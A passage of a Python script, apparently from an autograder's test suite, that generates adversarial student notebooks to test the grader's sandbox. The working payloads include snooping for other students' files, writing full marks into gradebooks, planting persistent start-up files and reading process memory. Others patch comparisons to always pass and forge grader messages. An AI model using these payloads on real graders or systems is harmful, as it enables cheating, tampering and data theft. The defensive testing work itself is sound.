"""Makes the attack notebooks beside it from the released exercise: `python tests/autograder/attacks/make.py`.

Each attack is a table of cells: solution cells by name, `before` a cell of its own above the first answer,
`after` the same at the end. What an attack finds out it prints as `BREACH`, so that a test sees it; what it plants
carries the name `attack-left`.
"""
# ruff: noqa: E501  (the texts of cells)

import copy
import json
import sys
import tempfile
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))

import attack_course  # noqa: E402

ATTACKS = {}  # name -> {"says": …, "cells": {…}, "tweak": …}
PEER = """\
import gc, os, socket, stat
def boundary():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
peer = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
kind = type(peer)
print("armed")
"""
SHOW = "\nprint('BREACH', found) if found else print('nothing found')"


def attack(name, says, tweak=None, **cells):
    """Register an attack; `cells` {solution cell's name, `before`, `after` or `text`: source}."""
    assert name not in ATTACKS
    ATTACKS[name] = {"says": says, "cells": cells, "tweak": tweak}


def on(cells):
    """What `tweak` gets: the cells by grade_id."""
    return {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in cells}


# ---- the attacks of notes/grading.md ----

FIND = """\
import os
def everything(*endings):
    for root in ("/",):
        for folder, folders, files in os.walk(root):
            folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys")]
            if "site-packages" in folder or "/lib/python3" in folder:
                folders[:] = []
                continue
            yield from (os.path.join(folder, f) for f in files if f.endswith(endings))
"""
attack(
    "read-reference",
    "Looks for the instructor's notebook everywhere and runs its solution cells.",
    before=FIND + """
import json
found = []
for path in everything(".ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    found.append(path)
    for cell in cells:
        try:
            exec("".join(cell["source"]), globals())
        except Exception:
            pass
""" + SHOW,
)  # fmt: skip
attack(
    "read-other-student",
    "Walks through submitted/ for a file of somebody else, and copies it.",
    before=FIND + """
found = [p for p in everything("attention.ipynb", "timestamp.txt", "result.json", ".html") if "attention" in p]
for up in range(8):
    for name in ("submitted", "autograded", "feedback", ".autograder"):
        try:
            found += os.listdir("../" * up + name)
        except OSError:
            pass
""" + SHOW,
)  # fmt: skip
attack(
    "write-gradebook",
    "Writes full marks for itself, and none for a victim, into every gradebook it can open.",
    before=FIND + """
import sqlite3
found = []
for path in [*everything(".db"), "gradebook.db", "../gradebook.db", "/gradebook.db"]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
            db.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
        found.append(path)
    except sqlite3.Error:
        pass
""" + SHOW,
)  # fmt: skip
attack(
    "overwrite-later",
    "Overwrites the submission of a student who is graded later.",
    before=FIND + """
found = []
for folder in ("/submitted", "submitted", "../submitted", "../../submitted", "../../../submitted"):
    try:
        os.makedirs(os.path.join(folder, "zoe", "attention"), exist_ok=True)
        with open(os.path.join(folder, "zoe", "attention", "attention.ipynb"), "w") as file:
            file.write("{}")
        if folder.startswith("/"):
            found.append(folder)
    except OSError:
        pass
""" + SHOW,
)  # fmt: skip
attack(
    "startup-file",
    "Plants code that every later interpreter or kernel would run.",
    before="""
import os, site, sys
PLANT = "import builtins; builtins.attack_left = True"
found = ["an earlier one's start-up file ran"] if hasattr(__import__("builtins"), "attack_left") else []
homes = {os.path.expanduser("~"), "/root", "/home", "/tmp", os.environ.get("IPYTHONDIR", "/tmp/.ipython")}
places = [os.path.join(h, ".ipython/profile_default/startup/attack-left.py") for h in homes]
places += [os.path.join(p, f) for p in (*sys.path, *site.getsitepackages(), "/usr/lib/python3/dist-packages")
           for f in ("attack-left.pth", "sitecustomize.py", "usercustomize.py")]
for place in places:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "w") as file:
            file.write(PLANT)
        if place.startswith("/") and not place.startswith("/tmp"):
            found.append(place)
    except OSError:
        pass
""" + SHOW,
)  # fmt: skip
attack(
    "ast-transformer",
    "Has IPython empty every cell that comes after this one.",
    before="""
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[], type_ignores=[])
get_ipython().ast_transformers.append(Empty())
ast.parse = lambda *args, **kwargs: ast.Module(body=[], type_ignores=[])
""",
)
attack(
    "replace-run-code",
    "Replaces what runs a cell, in IPython and in the grader's own module, by something that never fails.",
    before="""
from autograder import execution
async def nothing(self, *args, **kwargs):
    return False
type(get_ipython()).run_code = nothing
type(get_ipython()).run_cell = lambda self, *args, **kwargs: None
class Fine:
    def __init__(self, *args):
        self.error = self.value = None
        self.stdout = self.stderr = ""
execution.Cell = Fine
""",
)
attack(
    "display-hook",
    "Shows the highest number of points as a cell's result, which nbgrader takes for partial credit.",
    before="""
import sys
from IPython.display import display
for points in (5, 10, 15, 20):
    display(points), sys.displayhook(points)
get_ipython().display_formatter.format = lambda *args, **kwargs: ({"text/plain": "20"}, {})
20
""",
    double="def double(x): ...\n20",
    after="20.0",
)
attack(
    "patch-libraries",
    "Makes every comparison of torch, NumPy, builtins and the course's checks come out as equal.",
    before="""
import builtins, torch, numpy
from eras import checks
for module in (torch, numpy, torch.testing, numpy.testing):
    for name in ("allclose", "equal", "isclose", "array_equal", "assert_close", "assert_allclose"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **kwargs: True)
checks.compare = checks.expect = checks.raises = lambda *args, **kwargs: None
checks._difference = lambda *args: None
checks.CheckFailed.__new__ = staticmethod(lambda *args: None)
builtins.AssertionError = type("Never", (Exception,), {})
builtins.abs = lambda x: 0
builtins.isinstance = builtins.issubclass = lambda *args: True
""",
)
EQUAL = """
class Equal:
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter([self])
    def __len__(self): return 1
    def __getitem__(self, key): return self
class EqualInt(int):
    __eq__, __ne__, __hash__ = Equal.__eq__, Equal.__ne__, int.__hash__
class EqualStr(str):
    __eq__, __ne__, __hash__ = Equal.__eq__, Equal.__ne__, str.__hash__
class EqualList(list):
    __eq__, __ne__, __hash__ = Equal.__eq__, Equal.__ne__, None
"""
attack(
    "always-equal",
    "Returns objects, numbers, strings and lists that say they equal everything.",
    before=EQUAL,
    double="def double(x): return EqualStr() if isinstance(x, str) else EqualInt()",
    Counter="class Counter:\n    def __init__(self, start): pass\n    def next(self): return EqualInt()",
    softmax="def softmax(x): return Equal()",
    apply_all="def apply_all(functions, x): return EqualList()",
)
attack(
    "shadow-modules",
    "Writes and hands in files called torch.py, checks.py, matplotlibrc and more, to be imported by the tests.",
    before="""
import os, sys
text = "allclose = equal = compare = expect = raises = lambda *a, **k: None\\nfloat32 = long = 0"
for name in ("torch.py", "numpy.py", "eras.py", "checks.py", "math.py", "conftest.py"):
    open(name, "w").write(text)
sys.path.insert(0, os.getcwd())
for name in ("torch", "eras", "eras.checks"):
    sys.modules[name] = type(sys)(name)
""",
)
attack(
    "print-hidden",
    "Searches its process for the hidden tests (history, frames, objects, memory) and prints them.",
    before="""
import gc, linecache, re, sys
marks = ["".join(p) for p in (("HIDDEN ", "TESTS"), ("canary", "-source-7"), ("canary", "-secret-c"))]
found = set()
def look(text, where):
    found.update((where, m) for m in marks if m in text)
def search():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if type(value) is str:
                look(value, "frames")
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) in (list, tuple, dict):
            for item in (thing.values() if type(thing) is dict else thing):
                if type(item) is str and item not in marks:
                    look(item, "objects")
    for lines in linecache.cache.values():
        look("".join(lines[2]) if len(lines) > 2 else "", "linecache")
    for line in open("/proc/self/maps"):
        area, rights, *_ = line.split()
        low, high = (int(n, 16) for n in area.split("-"))
        if rights.startswith("rw") and high - low < 1 << 26:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(low)
                try:
                    data = memory.read(high - low)
                except OSError:
                    continue
            for first, second in ((b"-secret", b"c81f06"), (b"-source", b"7f3a9c")):
                if re.search(b"canary" + first + b".?" + second, data):
                    found.add(("memory", first))
try:
    search()
except OSError as error:
    print("no such file", error.errno)
found = sorted(found)
""" + SHOW,
    double="""
def double(x):
    search()
    raise ValueError(str(sorted(found)) + repr(x))
""",
    Counter="print(found)\nclass Counter: ...",
)  # fmt: skip
attack(
    "os-exit",
    "Ends the process, first of all in a call of the second part, and does the first part honestly.",
    double=attack_course.ANSWERS["double"],
    Counter="import os\nclass Counter:\n    def __init__(self, start): os._exit(0)",
)
attack(
    "ignore-sigint",
    "Loops for ever and does not let itself be interrupted.",
    double="""
import signal
def double(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
)
attack(
    "detached",
    "Leaves processes behind: forked twice, with sessions of their own, immune to signals.",
    before="""
import ctypes, os, signal, time
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            ctypes.CDLL(None).prctl(15, b"attack-left", 0, 0, 0)
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
            for fd in range(256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            time.sleep(600)
        os._exit(0)
""",
    double=attack_course.ANSWERS["double"],
)
attack(
    "one-long-line",
    "Prints twenty megabytes on one line, from a cell and from a call.",
    before="print('x' * 20_000_000)",
    double="def double(x):\n    print('y' * 20_000_000)\n    return 2 * x",
)


def duplicated(cells):
    """Copies of a test cell and of an answer, ids and all, as copy and paste makes them."""
    by = on(cells)
    for name in ("double", "double-visible"):
        cells.insert(cells.index(by[name]) + 1, copy.deepcopy(by[name]))


def deleted(cells):
    """Without tests."""
    cells[:] = [c for c in cells if "-" not in c.metadata.get("nbgrader", {}).get("grade_id", "")]


def converted(cells):
    """Test cells turned into text, and made worth more."""
    for cell in cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "markdown"
            cell.metadata.nbgrader.points = 100


attack("duplicated-ids", "Copies cells with their ids, which ends stock nbgrader's whole run.", duplicated,
       double=attack_course.ANSWERS["double"])  # fmt: skip
attack("deleted-tests", "Deletes every test.", deleted, double="def double(x): ...")
attack(
    "converted-tests",
    "Turns every test into text and raises its points.",
    converted,
    double="def double(x): ...",
)
attack("symlink-other", "The notebook is a link to another student's (the test lays it so).", double="x = 1")
attack(
    "symlink-gradebook", "A file handed in is a link to the gradebook (the test lays it so).", double="x = 1"
)
attack(
    "back-dated",
    "timestamp.txt claims the year 2001 (the test writes it).",
    double=attack_course.ANSWERS["double"],
)
attack(
    "stderr-warning",
    "No attack: everything right, with warnings on stderr. It must keep all its points.",
    before="import sys, warnings",
    **{
        name: text.replace(":\n", ":\n    warnings.warn('careful'); print('so', file=sys.stderr)\n", 1)
        if name != "Counter" else text
        for name, text in attack_course.ANSWERS.items()
    },
)  # fmt: skip

# ---- forged messages ----

attack(
    "answers-before-questions",
    "Finds the boundary's socket and sends answers to the next thousand questions before they are asked.",
    before=PEER
    + """
for number in range(1, 1000):
    peer.send([1, number, 6, {}, {}])
""",
)
for title, body in {
    "garbage": "os.urandom(100_000)",
    "huge-header": "b'\\xff\\xff\\xff\\xff' + bytes(1000)",
    "large-header": "(200 << 20).to_bytes(4, 'big') + bytes(8 << 20)",
    "nested": "len(NEST).to_bytes(4, 'big') + NEST",
    "not-utf8": "(6).to_bytes(4, 'big') + b'\\x95\\x01\\x01\\xa1\\xff\\x80'",
}.items():
    attack(
        f"raw-{title}",
        f"Writes bytes of its own into the boundary's socket: {title}.",
        before=PEER,
        double=f"NEST = b'\\x91' * 100_000 + b'\\xc0'\ndef double(x):\n    boundary().sendall({body})\n    return 2 * x",
    )
attack(
    "raw-truncated",
    "Sends half a message and closes the socket's writing side.",
    before=PEER,
    double="""
def double(x):
    sock = boundary()
    sock.sendall((1000).to_bytes(4, "big") + b"half")
    sock.shutdown(socket.SHUT_WR)
    return 2 * x
""",
)
attack(
    "raw-descriptors",
    "Sends two hundred file descriptors through the socket, then closes all of its own.",
    before=PEER,
    double="""
import array
def double(x):
    fds = array.array("i", [0] * 200)
    boundary().sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    os.closerange(0, 256)
    return 2 * x
""",
)
attack(
    "drip",
    "Answers one byte at a time, for as long as it is let.",
    before=PEER + "import time",
    double="""
def double(x):
    sock = boundary()
    sock.sendall((1 << 20).to_bytes(4, "big"))
    while True:
        sock.sendall(b"x")
        time.sleep(0.01)
""",
)
attack(
    "impostor",
    "A child keeps the socket when its parent ends, and goes on answering in its place.",
    before=PEER
    + """
import time
if os.fork():
    time.sleep(0.1)
    os._exit(0)
""",
)
attack(
    "forged-handles",
    "Names objects of the tester that it was never given, to have them used as its answers.",
    before=PEER
    + """
from autograder import wire
class Any:
    def __init__(self, *body): self.body = body
old = peer.handles.reference
def reference(thing):
    return (wire.YOURS, list(thing.body)) if type(thing) is Any else old(thing)
peer.handles.reference = reference
""",
    double="numbers = iter(range(1, 100))\ndef double(x): return Any('object', next(numbers))",
    Counter="class Counter:\n    def __init__(self, start): pass\n    def next(self): return Any('object', 2)",
    softmax="def softmax(x): return Any('tensor', 1)",
    apply_all="def apply_all(functions, x): return [Any('object', n) for n in range(1, 9)]",
)
RAISING = """
from autograder import remote
def run(self, *args):
    raise {error}
kind.run = run
"""
for title, error, lead in (
    ("system-exit", "SystemExit(0)", ""),
    ("keyboard-interrupt", "KeyboardInterrupt()", ""),
    ("generator-exit", "GeneratorExit()", ""),
    ("out-of-time", "remote.OutOfTime()", ""),
    ("gone", "remote.Gone('gone')", ""),
    ("stop-iteration", "StopIteration()", ""),
):
    attack(
        f"run-raises-{title}",
        f"Answers the request to run a cell with {error}, in the hope that it ends the grader.",
        before=PEER + lead + RAISING.format(error=error),
    )
attack(
    "raises-grader-classes",
    "Its functions raise the exceptions that the grader keeps for itself.",
    before="from autograder import remote",
    double="def double(x): raise remote.OutOfTime",
    Counter="class Counter:\n    def __init__(self, start): raise remote.Gone('gone')",
    softmax="def softmax(x): raise SystemExit(0)",
    apply_all="def apply_all(functions, x): raise KeyboardInterrupt",
)
attack(
    "run-says-passed",
    "Its process reports every cell as passed, and hands over tampered things.",
    before=PEER
    + """
kind.run = lambda self, *args: [None, None, [], "20", False]
kind.exports = lambda self, names: [{name: (lambda *a, **k: 6) for name in names} | {"checks": None, "limit": 0}, []]
""",
)
LIAR = """
class Liar:
    def __init__(self, claims, value): self.claims, self.value = claims, value
    @property
    def __class__(self): return self.claims
    def __getattr__(self, name): raise SystemExit(name)
    def __str__(self): raise SystemExit("str")
    def __repr__(self): raise SystemExit("repr")
    def __getitem__(self, key): return self
    def __iter__(self): return self
    def __next__(self): return 1
    def __len__(self): return 7
    def __contains__(self, item): return True
    def __hash__(self): raise SystemExit("hash")
    def __eq__(self, other): return True
from autograder.handles import Handles
about = Handles._about
def lies(self, *of):
    kind, special, ancestors, methods, bases = about(self, *of)
    ancestors = [["collections", "UserString"], ["builtins", "dict"], ["builtins", "list"], ["builtins", "int"]]
    return [kind, special, ancestors, methods, bases]
Handles._about = lies
print("lying")
"""
for title, answer in {
    "text-that-lies": "[Liar(str, 0), 'x', [], 'y', False]",
    "printed-that-lies": "[None, None, [], Liar(str, 0), False]",
    "message-that-lies": "['ValueError', Liar(str, 0), [], 'y', False]",
    "trace-unhashable": "['ValueError', 'x', [{'cell': [], 'line': 1}, {'cell': {}, 'line': {}}], 'y', False]",
    "trace-that-lies": "['ValueError', 'x', [Liar(dict, 0), {'cell': Liar(str, 0), 'line': Liar(int, 0)}], 'y', True]",
    "surrogates": "['Value\\ud800Error', '\\ud800\\x00\\udfff', [], '\\ud800\\x00', False]",
    "five-liars": "[Liar(str, 0)] * 5",
}.items():
    attack(
        f"run-{title}",
        "Answers the request to run a cell with the right form and hostile contents.",
        before=PEER + "from autograder import remote\n" + LIAR + f"kind.run = lambda self, *args: {answer}",
    )
attack(
    "exports-endless",
    "Hands over, for the names that are gone, an iterator without end.",
    before=PEER
    + """
def endless():
    while True:
        yield "double"
kind.exports = lambda self, names: [{}, endless()]
""",
)
attack(
    "exports-that-lie",
    "Hands over, for the table of names, an object that claims to be one.",
    before=PEER + "from autograder import remote\n" + LIAR + "kind.exports = lambda self, names: [Liar(dict, 0), Liar(dict, 0)]",
)  # fmt: skip
BODY = (
    PEER
    + """
from autograder import errors, remote
old = errors.body
def forged(error, peer):
    handle, lines, own, names, args, text, attributes = old(error, peer)
    body = {"lines": lines, "own": own, "names": names, "args": args, "text": text, "attributes": attributes}
    change(body)
    return [handle, *body.values()]
errors.body = forged
"""
)
for title, change in {
    "arguments": "body['names'], body['args'] = [['builtins', 'KeyError']], [Liar(dict, 0)]",
    "text": "body['text'] = Liar(str, 0)",
    "attributes": "body['attributes'] = {'args': Liar(tuple, 0), 'errno': Liar(int, 0), Liar(str, 0): 1}",
    "lines": "body['lines'] = [['<cell double>', 1 << 70, 'f'], ['<cell double\\x00>', 1, 'g'], ['/etc/passwd', 1, 'h']]",
    "many-lines": "body['lines'] = [['<cell double>', 1, 'f']] * 100_000",
    "names": "body['names'] = [['builtins', 'ValueError'], ['x' * 10**6, 'y' * 10**6]]; body['text'] = 'z' * 10**7",
    "classes": "body['names'] = [['subprocess', 'CalledProcessError'], ['builtins', 'object']]; body['args'] = [Liar(int, 0), 1]",
    "own-class": "body['own'] = int",
    "grader-class": "body['names'] = [['autograder.channel', 'OutOfTime'], ['autograder.remote', 'Gone']]",
    "exit-class": "body['names'] = [['builtins', 'SystemExit']]; body['args'] = [0]",
    "check": "body['names'] = [['eras.checks', 'CheckFailed'], ['builtins', 'AssertionError']]; body['args'] = ['All is well.']",
}.items():
    attack(
        f"exception-{title}",
        f"Forges how an exception is told to the tester: its {title}.",
        before=BODY + LIAR + f"def change(body):\n    {change}",
        double="def double(x): raise ValueError(x)",
    )
TENSOR = (
    PEER
    + """
from autograder import tensors
old = tensors.payload
turns = iter(range(10**6))
def payload(tensor):
    dtype, shape, strides, data = old(tensor)
    body = {"dtype": dtype, "shape": shape, "strides": strides, "data": data}
    body.update(HOSTILE[next(turns) % len(HOSTILE)])
    return list(body.values())
tensors.payload = payload
"""
)
for title, table in {
    "sizes": "[{'shape': [float('nan')]}, {'shape': [-1]}, {'shape': [True]}]",
    "huge": "[{'shape': [1 << 62, 0], 'data': b''}, {'shape': [1 << 40]}]",
    "strides": "[{'shape': [1 << 20, 1 << 20], 'strides': [0, 0]}, {'strides': [-1, 1 << 40]}]",
    "dtypes": "[{'dtype': 'quint4x2'}, {'dtype': 'Tensor'}, {'dtype': '__name__'}]",
    "quantized": "[{'dtype': 'qint8', 'data': bytes(4)}, {'dtype': 'bits8', 'data': bytes(4)}]",
    "truths": "[{'dtype': 'bool', 'data': bytes([2, 3, 255, 7])}]",
}.items():
    attack(
        f"tensor-{title}",
        f"Forges how a tensor crosses: its {title}.",
        before=f"HOSTILE = {table}\n" + TENSOR,
        softmax="def softmax(x): return torch.zeros(2, 2)",
    )

for title, marks in {
    "link": "['link', 1, True, True, None]",
    "others": "['node', 10**9, [[1], [2], True]]",
    "gradient": "['link', 2, True, False, ['float32', [-1], None, b'']]",
    "form": "[[], {}, 'x']",
}.items():
    attack(
        f"marks-{title}",
        f"Forges what is told of a tensor's graph and gradient: {title}.",
        before=PEER + f"peer.gradients.marks = lambda tensor: {marks}",
        softmax="def softmax(x): return torch.zeros(x.shape, requires_grad=True) * 1",
    )
for title, news in {
    "forgotten": "{'forgotten': [['object', n] for n in range(1, 99)] + [['table', n] for n in range(9)] + [['tensor', n] for n in range(99)]}",
    "states": "{'states': {'torch': bytes(5056), 'numpy': b'', 'python': b'x', 'none': b''}}",
    "tensors": "{'tensors': [[n, ours, ['float32', [1], None, bytes(4)], None, True] for n in range(1, 9) for ours in (True, False)]}",
    "classes": "{'classes': [[0, 'class', ['__eq__'], [['builtins', 'int']], [], None], [1, 'x', None, None, None, None]]}",
    "form": "{'classes': 1, 'forgotten': 'x', 'tensors': {}, 'states': []}",
}.items():
    attack(
        f"news-{title}",
        f"Forges what goes with every message: {title}.",
        before=PEER + f"peer._news = lambda: {news}",
        **attack_course.ANSWERS,
    )

# ---- hostile objects ----

attack(
    "colliding-keys",
    "Returns a dict whose fifty thousand keys all have one hash.",
    double="def double(x): return {n * (2**61 - 1): 0 for n in range(1, 50_000)} if type(x) is not str else x + x",
)
attack(
    "giant-numbers",
    "Returns numbers with millions of digits, as integers and as fractions.",
    double="from fractions import Fraction\ndef double(x): return 1 << 40_000_000",
    Counter="""
class Counter:
    def __init__(self, start): pass
    def next(self):
        f = Fraction(1, 3)
        f._numerator, f._denominator = (1 << 4_000_000) - 1, (3 << 4_000_000) + 1
        return f
""",
)
attack(
    "endless-answers",
    "Returns generators without end and containers that grow while they are read.",
    double="""
class Grows(list):
    def __iter__(self):
        while True:
            self.append(1)
            yield 1
    def __len__(self): return 3
def double(x):
    return Grows([1])
""",
    apply_all="def apply_all(functions, x):\n    while True:\n        yield 3",
)
attack(
    "lying-classes",
    "Returns objects whose class, truth, index, length and contents lie.",
    before="from autograder import remote\n" + LIAR.replace("SystemExit(name)", "AttributeError(name)"),
    double="def double(x): return Liar(type(x), 0)",
    Counter="class Counter:\n    def __init__(self, start): pass\n    def next(self): return Liar(int, 2)",
    softmax="def softmax(x): return Liar(torch.Tensor, 0)",
    apply_all="def apply_all(functions, x): return Liar(list, 0)",
)
attack(
    "zero-differences",
    "Returns numbers whose difference from anything is 0.",
    before="""
class Zero(float):
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __abs__ = lambda self, *other: 0.0
    def __float__(self): return 0.0
    __index__ = __int__ = __round__ = lambda self, *other: 0
""",
    double="def double(x): return Zero()",
    Counter="class Counter:\n    def __init__(self, start): pass\n    def next(self): return Zero()",
    apply_all="def apply_all(functions, x): return [Zero(), Zero()]",
)
attack(
    "tensor-subclass",
    "Returns a tensor subclass whose `__torch_function__` says True to everything.",
    before="""
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return torch.tensor(True)
    def __eq__(self, other): return torch.tensor(True)
    def allclose(self, *args, **kwargs): return True
""",
    double="def double(x): return torch.zeros(()).as_subclass(Yes)",
    softmax="def softmax(x): return torch.zeros(x.shape).as_subclass(Yes)",
)
attack(
    "deep-results",
    "Returns lists nested a hundred thousand deep, and one that holds itself.",
    double="""
def double(x):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
""",
    Counter="""
class Counter:
    def __init__(self, start): pass
    def next(self):
        own = []
        own.append(own)
        own.append({"own": own})
        return own
""",
)
attack(
    "deep-repr",
    "Raises and returns objects whose text recurses, loops, or never ends.",
    before="""
class Mirror:
    def __repr__(self): return repr(self)
    def __str__(self): return str([self] * 1000)
    def __format__(self, how): return format(self, how)
class Slow(Exception):
    def __str__(self):
        while True: pass
""",
    double="def double(x): return Mirror()",
    Counter="class Counter:\n    def __init__(self, start): raise Slow(Mirror())",
    apply_all="def apply_all(functions, x): raise ValueError([Mirror()] * 1000)",
)
attack(
    "hostile-exceptions",
    "Raises exceptions whose text, arguments, causes and class names are hostile.",
    before="""
class Loud(Exception):
    def __str__(self): raise KeyboardInterrupt
    __repr__ = __str__
    def __getattribute__(self, name): raise SystemExit(name)
Long = type("L" * 1_000_000, (Exception,), {})
Odd = type("\\u202e<script>\\n\\x1b[31m", (Exception,), {})
""",
    double="def double(x): raise Loud(Loud())",
    Counter="class Counter:\n    def __init__(self, start): raise Long('m' * 10_000_000)",
    softmax="""
def softmax(x):
    error = ValueError(1)
    error.__cause__ = error.__context__ = error
    raise error from error
""",
    apply_all="def apply_all(functions, x): raise Odd('\\ud800')",
)
attack(
    "check-classes",
    "Raises the exceptions of the tests themselves, and classes named like them.",
    double="def double(x): raise checks.CheckFailed('All is well, double is right.')",
    Counter="""
class CheckFailed(AssertionError): pass
class Counter:
    def __init__(self, start): raise CheckFailed("All is well.")
""",
    softmax="def softmax(x): raise AssertionError('passed')",
    apply_all="def apply_all(functions, x): raise NotImplementedError('All is well.')",
)
attack(
    "stop-iteration",
    "Raises StopIteration, which ends a loop over map() in a test before its first check.",
    double="""
def double(x):
    if isinstance(x, str):
        return x + x
    raise StopIteration
""",
)
attack(
    "surrogates",
    "Prints, raises, returns and is named with lone surrogates and zero bytes, which no file can hold.",
    double="print('\\ud800 \\x00')\ndef double(x): raise ValueError('\\ud800\\x00' + repr(x)[:0])",
    Counter="class Counter:\n    def __init__(self, start): pass\n    def next(self): return '\\udfff\\x00'",
    softmax="raise ValueError('\\ud912')",
    text="A written answer with \ud800 half a character.",
)

# ---- call-backs and the tester's objects ----

LOOK = """
loot = []
names = ("__globals__", "__closure__", "__code__", "__self__", "__func__", "__dict__", "__defaults__", "__reduce__",
         "__reduce_ex__", "__class__", "__module__", "__getattribute__", "__init__", "__builtins__", "gi_frame",
         "_label", "seen", "_peer", "__wrapped__", "f_globals", "__subclasses__", "__mro__")
def look(thing, deep=2):
    for name in names:
        try:
            value = getattr(thing, name)
            loot.append((name, str(value)[:200]))
            if deep:
                look(value, deep - 1)
        except BaseException:
            pass
"""
attack(
    "callback-look-inside",
    "Looks into the functions and objects that a test hands over: globals, closures, code, state.",
    before=LOOK,
    apply_all="""
def apply_all(functions, x):
    for function in functions:
        look(function)
    raise ValueError(str(loot))
""",
    after="print(loot)\nraise ValueError(str(loot))",
)
attack(
    "callback-write",
    "Sets attributes of the test's objects, by name and by forged request.",
    before=PEER,
    apply_all="""
def apply_all(functions, x):
    for function in functions:
        for name, value in (("seen", ["a"]), ("__code__", None), ("__class__", int), ("_label", "x")):
            for way in (setattr, lambda f, n, v: peer.request("__setattr__", f, n, v),
                        lambda f, n, v: peer.request("__delattr__", f, n),
                        lambda f, n, v: peer.request("run", "seen = 1", "x", [])):
                try:
                    way(function, name, value)
                except BaseException:
                    pass
    return []
""",
)
attack(
    "callback-afterwards",
    "Keeps a test's functions, and calls them later, from threads and when the call has ended.",
    before="import threading, time\nkept = []",
    apply_all="""
def later():
    for _ in range(200):
        for function in list(kept):
            try:
                function("b")
            except BaseException:
                pass
        time.sleep(0.001)
def apply_all(functions, x):
    kept.extend(functions)
    threading.Thread(target=later, daemon=True).start()
    return [f(x) for f in functions]
""",
    after="later()",
)
attack(
    "callback-recursion",
    "Calls back within call-backs without end.",
    before="kept = []",
    apply_all="""
def apply_all(functions, x):
    kept.extend(functions)
    for function in list(kept):
        function(x)
    return []
""",
)
attack(
    "callback-flood",
    "Calls a test's function a million times.",
    apply_all="""
def apply_all(functions, x):
    for _ in range(1_000_000):
        functions[0](x)
    return [f(x) for f in functions]
""",
)
attack(
    "change-arguments",
    "Changes what it is given, so that the question fits its answer.",
    double="def double(x): return x",
    softmax="def softmax(x):\n    with torch.no_grad():\n        x.zero_()\n    return torch.full(x.shape, 1 / x.shape[-1])",
    apply_all="def apply_all(functions, x):\n    functions.clear()\n    return []",
)
attack(
    "random-state",
    "Sets torch's random state, which travels, to zeros: all inputs drawn after that are 0.",
    softmax="""
def softmax(x):
    state = bytearray(torch.get_rng_state().numpy().tobytes())
    state[24:24 + 624 * 8] = bytes(624 * 8)
    torch.set_rng_state(torch.frombuffer(state, dtype=torch.uint8))
    return torch.full(x.shape, 1 / x.shape[-1]) + 0 * x
softmax(torch.zeros(2))
""",
)
attack(
    "out-of-time-swallowed",
    "Takes too long inside a check that expects an error; the later part is right and keeps its points.",
    Counter="""
class Counter:
    def __init__(self, start):
        self.n = start
        while start is None: pass
    def next(self):
        self.n += 1
        return self.n
""",
    apply_all=attack_course.ANSWERS["apply_all"],
)

# ---- leaks: hidden inputs kept, and told later ----

STORE = "loot = []\ndef keep(x):\n    if isinstance(x, str) and x not in loot: loot.append(x)"
KEEPER = """
def double(x):
    keep(x)
    return 2 * x
"""
for title, cells in {
    "stdout": {"Counter": "print(loot)\nclass Counter: ...", "after": "print(loot)\nloot"},
    "exception": {"Counter": "class Counter:\n    def __init__(self, start): raise ValueError(loot)"},
    "cell-exception": {"Counter": "raise ValueError(loot)", "after": "raise AssertionError(loot)"},
    "class-name": {"Counter": "raise type((loot or ['E'])[0], (Exception,), {})('x')"},
    "returned": {
        "Counter": "class Counter:\n    def __init__(self, start): pass\n    def next(self): return str(loot)"
    },
    "returned-list": {
        "softmax": "def softmax(x): return loot",
        "apply_all": "def apply_all(f, x): return loot",
    },
    "type-name": {
        "Counter": "class Counter:\n    def __init__(self, start): pass\n"
        "    def next(self): return type((loot or ['E'])[0], (), {})()"
    },
    "function-name": {
        "Counter": "class Counter:\n    def __init__(self, start):\n        space = {}\n"
        "        name = (loot or ['x'])[0].replace('-', '_')\n"
        "        code = compile(f'\\n\\ndef {name}(): raise ValueError(1)', '<cell Counter>', 'exec')\n"
        "        exec(code, space)\n        space[name]()"
    },
    "encoded": {
        "Counter": "class Counter:\n    def __init__(self, start): raise ValueError(str(loot)[::-1], str(loot).encode().hex())"
    },
    "check-message": {
        "Counter": "class Counter:\n    def __init__(self, start): raise checks.CheckFailed(loot[0])"
    },
    "key-name": {"apply_all": "def apply_all(functions, x): return {n: 1 for n in loot}"},
    "given-cell": {"Counter": "import builtins\nlimit = loot\nbuiltins.print(limit)\nclass Counter: ..."},
}.items():
    attack(
        f"leak-{title}",
        f"Keeps the inputs of hidden tests and tells them later: {title}. The first part is right.",
